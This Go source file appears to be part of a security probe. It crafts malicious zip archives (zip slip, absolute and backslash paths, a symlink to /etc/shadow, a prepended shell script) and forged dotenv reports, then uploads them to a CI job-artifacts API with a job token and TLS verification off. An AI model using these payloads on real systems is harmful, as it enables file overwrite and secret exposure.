package main

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"time"
)

// A crafted archive is one that holds what it should, and something besides.
var crafted = map[string]func(w *zip.Writer, name string, honest []byte) error{
	"honest": func(w *zip.Writer, name string, honest []byte) error { return add(w, name, 0o644, honest) },
	"other content": func(w *zip.Writer, name string, _ []byte) error {
		return add(w, name, 0o644, []byte("forged\n"))
	},
	"name twice": func(w *zip.Writer, name string, honest []byte) error {
		if err := add(w, name, 0o644, honest); err != nil {
			return err
		}
		return add(w, name, 0o644, []byte("forged\n"))
	},
	"file that was not built": func(w *zip.Writer, name string, honest []byte) error {
		if err := add(w, name, 0o644, honest); err != nil {
			return err
		}
		return add(w, "forged.txt", 0o644, []byte("forged\n"))
	},
	"zip slip": func(w *zip.Writer, name string, honest []byte) error {
		if err := add(w, name, 0o644, honest); err != nil {
			return err
		}
		return add(w, "../../"+name, 0o644, []byte("forged\n"))
	},
	"absolute path": func(w *zip.Writer, name string, honest []byte) error {
		return add(w, "/builds/group/project/"+name, 0o644, honest)
	},
	"link in place of the file": func(w *zip.Writer, name string, _ []byte) error {
		return add(w, name, os.ModeSymlink|0o777, []byte("/etc/shadow"))
	},
	"device": func(w *zip.Writer, name string, _ []byte) error {
		return add(w, name, os.ModeDevice|0o644, nil)
	},
	"name in another case": func(w *zip.Writer, name string, honest []byte) error {
		if err := add(w, name, 0o644, honest); err != nil {
			return err
		}
		return add(w, "OUT.TXT", 0o644, []byte("forged\n"))
	},
	"backslash": func(w *zip.Writer, name string, honest []byte) error {
		if err := add(w, name, 0o644, honest); err != nil {
			return err
		}
		return add(w, `..\out.txt`, 0o644, []byte("forged\n"))
	},
	"executable": func(w *zip.Writer, name string, honest []byte) error { return add(w, name, 0o755, honest) },
}

func add(w *zip.Writer, name string, mode os.FileMode, data []byte) error {
	h := &zip.FileHeader{Name: name, Method: zip.Deflate, Modified: time.Now()}
	h.SetMode(mode)
	f, err := w.CreateHeader(h)
	if err != nil {
		return err
	}
	_, err = f.Write(data)
	return err
}

// upload sends crafted archives of a file to the API as the runner's own
// uploader would, each once, and says what came of each.
func upload(api, job, token, file string) {
	honest, err := os.ReadFile(file)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	for kind, fill := range crafted {
		if kind == "honest" {
			continue
		}
		var b bytes.Buffer
		w := zip.NewWriter(&b)
		if err := fill(w, file, honest); err != nil {
			fmt.Println("error:", err)
		}
		_ = w.Close()
		send(kind, api, job, token, "archive", "zip", "out.zip", b.Bytes())
	}
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	_ = crafted["honest"](w, file, honest)
	_ = w.Close()
	plain := b.Bytes()
	send("bytes before the archive", api, job, token, "archive", "zip", "out.zip", append([]byte("#!/bin/sh\necho forged\n"), plain...))
	send("bytes behind the archive", api, job, token, "archive", "zip", "out.zip", append(bytes.Clone(plain), "forged"...))
	send("cut archive", api, job, token, "archive", "zip", "out.zip", plain[:len(plain)-10])
	send("another format", api, job, token, "archive", "raw", "out.zip", plain)
	send("report that was not built", api, job, token, "dotenv", "gzip", ".env.gz", zipped("FORGED=1\n"))
	send("metadata", api, job, token, "metadata", "gzip", "metadata.gz", zipped("forged"))
}

func zipped(text string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, text)
	_ = w.Close()
	return b.Bytes()
}

func send(label, api, job, token, kind, format, name string, data []byte) {
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	part, err := form.CreateFormFile("file", name)
	if err == nil {
		_, err = part.Write(data)
	}
	if err == nil {
		err = form.Close()
	}
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	req, err := http.NewRequest(http.MethodPost, api+"/jobs/"+job+"/artifacts?artifact_type="+kind+"&artifact_format="+format, &body)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	req.Header.Set("JOB-TOKEN", token)
	req.Header.Set("Content-Type", form.FormDataContentType())
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
		Proxy: http.ProxyFromEnvironment, TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, DisableKeepAlives: true,
	}}
	resp, err := client.Do(req)
	switch {
	case err != nil:
		say("upload: "+label, refused, "%v", err)
	case resp.StatusCode < 300:
		say("upload: "+label, escape, "status %d", resp.StatusCode)
	default:
		text, _ := io.ReadAll(io.LimitReader(resp.Body, 300))
		say("upload: "+label, refused, "status %d %q", resp.StatusCode, text)
	}
}
